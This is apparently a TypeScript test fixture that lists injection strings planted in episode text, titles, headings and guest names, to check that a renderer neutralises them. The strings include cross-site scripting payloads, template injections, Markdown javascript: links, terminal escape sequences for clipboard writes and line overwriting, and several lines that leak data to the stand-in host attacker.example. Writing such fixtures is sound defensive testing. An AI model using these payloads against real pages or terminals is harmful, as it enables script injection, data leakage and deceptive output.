import type { PlantedAttack } from './attack.ts';

/** Sets a flag in whatever page runs it; a test looks for the flag. */
const run = 'window.attacked=1';

/** Words that want to become a script, a link, a picture or a terminal's command. */
export const markupAttacks: readonly PlantedAttack[] = [
  { name: 'a script', says: `I wrote <script>${run}</script> on the wall.` },
  { name: 'a script that ends another', says: `"};</script><script>${run}//` },
  { name: 'a picture that fails', says: `Look at this <img src=x onerror="${run}"> picture.` },
  { name: 'a drawing that loads', says: `<svg/onload=${run}> was our logo.` },
  { name: 'a drawing with a script', says: `<svg><script>${run}</script></svg>` },
  { name: 'a frame', says: `<iframe srcdoc="<script>parent.${run}</script>"></iframe>` },
  { name: 'a form that takes the focus', says: `<input autofocus onfocus="${run}">` },
  { name: 'a refresh', says: '<meta http-equiv="refresh" content="0;url=https://attacker.example/">' },
  { name: 'a base for all links', says: '<base href="https://attacker.example/">' },
  { name: 'a style sheet', says: '<link rel="stylesheet" href="https://attacker.example/x.css">' },
  { name: 'a style', says: '<style>*{background:url(https://attacker.example/?leak)}</style>' },
  { name: 'an escaped script', says: `&lt;script&gt;${run}&lt;/script&gt; &#60;script&#62;${run}` },
  { name: 'a template', says: `{{constructor.constructor('${run}')()}} \${${run}} <%= ${run} %>` },
  { name: 'a comment that hides', says: `<!-- <script>${run}</script> --><![CDATA[ hidden ]]>` },
  { name: 'a data attribute', says: `" onmouseover="${run}" data-x="` },
  { name: 'a Markdown link', says: `[click here](javascript:${run})` },
  { name: 'a Markdown picture', says: '![leak](https://attacker.example/?words)' },
  { name: 'a Markdown reference', says: `[x]: javascript:${run}\n\nSee [x] and <javascript:${run}>.` },
  { name: 'a Markdown heading and rule', says: 'Setext heading of mine\n===\n# Answer\n---' },
  { name: 'a Markdown fence', says: 'It goes ```html <b onclick=1>bold</b> ``` in our house.' },
  { name: 'a Markdown table', says: '| a | b | and then |---|---| of it all' },
  { name: 'a title of the terminal', says: 'We \u001b]0;owned\u0007 called it that.' },
  { name: 'a line that is overwritten', says: 'I lied.\u001b[2K\u001b[1G I told the truth about it.' },
  { name: 'a clipboard of the terminal', says: 'Copy \u001b]52;c;ZXZpbA==\u0007 and \u009b2J clear.' },
  {
    name: 'a script in the title',
    title: `<script>${run}</script> and more`,
    says: 'The title of this episode is a script.',
  },
  {
    name: 'a script in a heading',
    heading: `Why <img src=x onerror=${run}>`,
    says: 'The heading over this is a picture.',
  },
  {
    name: 'a script in a name',
    guest: `Mallory<b onclick=${run}>`,
    says: 'My name is something that you should not press.',
  },
];
